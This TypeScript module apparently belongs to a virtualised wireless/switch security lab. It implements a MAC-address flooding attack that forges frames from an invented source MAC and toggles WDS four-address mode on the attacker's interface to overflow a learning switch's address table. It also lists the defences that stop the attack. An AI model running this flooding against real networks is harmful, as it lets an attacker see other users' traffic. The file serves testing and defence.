// SPDX-License-Identifier: Apache-2.0
import { broadcast, ethernet } from "../../lab/packet.ts";
import { must, sleep } from "../../../qemu/guest/command.ts";
import type { Attack } from "../attack.ts";
import { flooded, offset, uncheckedUdp, type Scene, type Wave } from "../flooding.ts";

const INVENTED = "02:00:00:99:00:00";
const NOBODY = "02:00:00:98:00:00";
/** An access point that allows it makes an interface for the station, and the switch a port, which takes a while. */
const PORT_MADE = 1500;

export function waves({ attacker, victim }: Scene): Wave[] {
  const from = (to: string): Uint8Array => ethernet({ from: INVENTED, to }, 0x0800, uncheckedUdp(attacker.v4, victim.v4, { from: 9, to: 9 }, new Uint8Array(18)));
  return [{ what: "to nobody", frame: from(NOBODY), countingAt: offset.sourceMac }, { what: "to all", frame: from(broadcast), countingAt: offset.sourceMac }];
}

export const floodNewMacs: Attack = {
  slug: "flood-new-macs",
  needs: "a key of its own; a radio that sends frames with four addresses (WDS), as others are lost at the access point; or a wire",
  gains: "fills the address table of a switch that learns; what is for addresses that it does not know (any more) goes to everybody",
  stoppedBy: "wds off; no learning: a device is where its radio and its key say; a meter for each port before the gateway is asked about strangers, and a bucket of joins",
  takesVictim: true,
  run: async (field) => {
    const { attacker } = field;
    const fourAddresses = (word: "on" | "off"): Promise<string> => must(["ip", "netns", "exec", attacker.namespace, "iw", "dev", attacker.device, "set", "4addr", word]);
    await fourAddresses("on");
    try {
      await attacker.send(waves(field)[1]!.frame);
      await sleep(PORT_MADE);
      return await flooded(field, waves(field));
    } finally {
      await fourAddresses("off");
      await attacker.join();
      await attacker.restore();
    }
  },
};
